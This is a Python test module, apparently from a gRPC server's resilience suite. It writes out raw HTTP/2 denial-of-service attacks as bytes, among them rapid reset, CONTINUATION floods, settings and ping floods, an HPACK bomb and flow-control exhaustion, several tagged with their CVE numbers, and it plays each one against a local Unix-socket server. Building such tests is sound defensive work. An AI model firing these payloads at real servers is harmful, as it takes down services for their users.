"""Raw HTTP/2 as an attacker writes it, for a server on a Unix socket.

Each attack is bytes to send and how the attacker reads; `run` plays one and tells what the server did.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
NAMES: Final = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def _integer(value: int) -> bytes:
    """HPACK's integer with a seven-bit prefix (RFC 7541, section 5.1)."""
    if value < 127:
        return bytes([value])
    value -= 127
    encoded = bytearray([127])
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    encoded.append(value)
    return bytes(encoded)


def field(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A literal field; `indexed` puts it into the dynamic table."""
    return (b"\x40" if indexed else b"\0") + _integer(len(name)) + name + _integer(len(value)) + value


def request(path: bytes, extra: bytes = b"") -> bytes:
    """A header block. 0x83 is :method POST, 0x86 :scheme http."""
    return (
        b"\x83\x86"
        + field(b":path", path)
        + field(b":authority", b"x")
        + field(b"content-type", b"application/grpc")
        + field(b"te", b"trailers")
        + extra
    )


UNARY: Final = request(b"/tests.echo.Echo/Unary")
CHAT: Final = request(b"/tests.echo.Echo/Chat")
ASK_FOR_MUCH: Final = b"\x10\xe8\x07\x1a\x80\x80\x01" + bytes(16384)  # count 1000, payload 16 KiB


def odd(count: int) -> Iterator[int]:
    return iter(range(1, 2 * count, 2))


def rapid_reset() -> bytes:
    """CVE-2023-44487: streams opened and reset at once."""
    reset = struct.pack(">I", 8)
    return b"".join(frame(HEADERS, END_HEADERS, i, CHAT) + frame(RST_STREAM, 0, i, reset) for i in odd(20_000))


def continuation_flood() -> bytes:
    """A header block without end (CVE-2024-27316)."""
    more = (frame(CONTINUATION, 0, 1, field(b"x%d" % i, b"y" * 100)) for i in range(20_000))
    return frame(HEADERS, 0, 1, UNARY) + b"".join(more)


def empty_continuation_flood() -> bytes:
    return frame(HEADERS, 0, 1, UNARY) + frame(CONTINUATION, 0, 1) * 100_000


def settings_flood() -> bytes:
    """CVE-2019-9515."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 200_000


def ping_flood() -> bytes:
    """CVE-2019-9512."""
    return frame(PING, 0, 0, b"12345678") * 200_000


def empty_data_flood() -> bytes:
    """CVE-2019-9518."""
    return frame(HEADERS, END_HEADERS, 1, CHAT) + frame(DATA, 0, 1) * 200_000


def hpack_bomb() -> bytes:
    """A 4 KB entry of the dynamic table, named again and again in small blocks."""
    first = request(b"/tests.echo.Echo/Chat", field(b"x", b"a" * 3_900, indexed=True))
    again = request(b"/tests.echo.Echo/Chat", b"\xbe" * 16_000)
    return frame(HEADERS, END_HEADERS, 1, first) + b"".join(
        frame(HEADERS, END_HEADERS, i, again) for i in range(3, 403, 2)
    )


def many_header_blocks() -> bytes:
    """Blocks just under the limit, unfolded from a few bytes each, on streams that are reset at once."""
    first = request(b"/tests.echo.Echo/Chat", field(b"x", b"a" * 3_900, indexed=True))
    again = request(b"/tests.echo.Echo/Chat", b"\xbe" * 3)
    reset = struct.pack(">I", 8)
    return frame(HEADERS, END_HEADERS, 1, first) + b"".join(
        frame(HEADERS, END_HEADERS, i, again) + frame(RST_STREAM, 0, i, reset) for i in range(3, 20_003, 2)
    )


def more_streams_than_allowed() -> bytes:
    return b"".join(frame(HEADERS, END_HEADERS, i, CHAT) for i in odd(20_000))


def unread_requests() -> bytes:
    """Messages for handlers that do not read, past every window."""
    start = b"".join(frame(HEADERS, END_HEADERS, i, UNARY) for i in odd(100))
    message = b"\0" + struct.pack(">I", 4 * 1024 * 1024) + bytes(16_379)
    return start + b"".join(frame(DATA, 0, i, message) for i in odd(100)) * 20


def unread_responses() -> bytes:
    """Asks for 100 times 16 MB with the windows wide open, and reads nothing."""
    wide = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(
        WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000 - 65_535)
    )
    fetch = request(b"/tests.echo.Echo/Fetch")
    body = b"\0" + struct.pack(">I", len(ASK_FOR_MUCH)) + ASK_FOR_MUCH
    cut = [body[:16_000], body[16_000:]]
    return wide + b"".join(
        frame(HEADERS, END_HEADERS, i, fetch) + frame(DATA, 0, i, cut[0]) + frame(DATA, END_STREAM, i, cut[1])
        for i in odd(100)
    )


def resets_without_reading() -> bytes:
    """Refused streams, each answered with a frame that the attacker leaves lying."""
    return more_streams_than_allowed() + b"".join(
        frame(HEADERS, END_HEADERS, i, CHAT) for i in range(40_001, 400_001, 2)
    )


def window_overflow() -> bytes:
    return frame(HEADERS, END_HEADERS, 1, CHAT) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0x7FFFFFFF)) * 1_000


@dataclass(frozen=True)
class Attack:
    make: Callable[[], bytes]
    reads: bool = True

    @property
    def name(self) -> str:
        return self.make.__name__


ATTACKS: Final = (
    Attack(rapid_reset),
    Attack(continuation_flood),
    Attack(empty_continuation_flood),
    Attack(settings_flood),
    Attack(settings_flood, reads=False),
    Attack(ping_flood),
    Attack(ping_flood, reads=False),
    Attack(empty_data_flood),
    Attack(hpack_bomb),
    Attack(many_header_blocks),
    Attack(more_streams_than_allowed),
    Attack(resets_without_reading, reads=False),
    Attack(unread_requests),
    Attack(unread_responses, reads=False),
    Attack(window_overflow),
)


def run(path: str, attack: Attack, patience: float = 1.0) -> Counter[str]:
    """Sends it all, as far as the server takes it, and counts the frames that come back; "EOF" when it hung up.

    Sends for five seconds at most; the attack ends when the server says nothing for `patience` seconds.
    """
    seen: Counter[str] = Counter()
    pending = memoryview(PREFACE + attack.make())
    received = bytearray()
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)
        sock.setblocking(False)
        quiet_since = time.monotonic()
        give_up = quiet_since + 5
        while time.monotonic() - quiet_since < patience and time.monotonic() < give_up:
            moved = False
            try:
                sent = sock.send(pending[:65_536]) if pending else 0
                pending = pending[sent:]
                moved = sent > 0
                if attack.reads and (data := sock.recv(65_536)):
                    received += data
                    moved = True
            except BlockingIOError:
                pass
            except OSError:
                seen["EOF"] += 1
                break
            if moved:
                quiet_since = time.monotonic()
            else:
                time.sleep(0.005)
        if not attack.reads:
            with contextlib.suppress(OSError):
                received += sock.recv(1 << 20)
    _count(received, seen)
    return seen


def _count(received: bytearray, seen: Counter[str]) -> None:
    at = 0
    while len(received) - at >= 9:
        length = int.from_bytes(received[at : at + 3], "big")
        seen[NAMES.get(received[at + 3], str(received[at + 3]))] += 1
        at += 9 + length
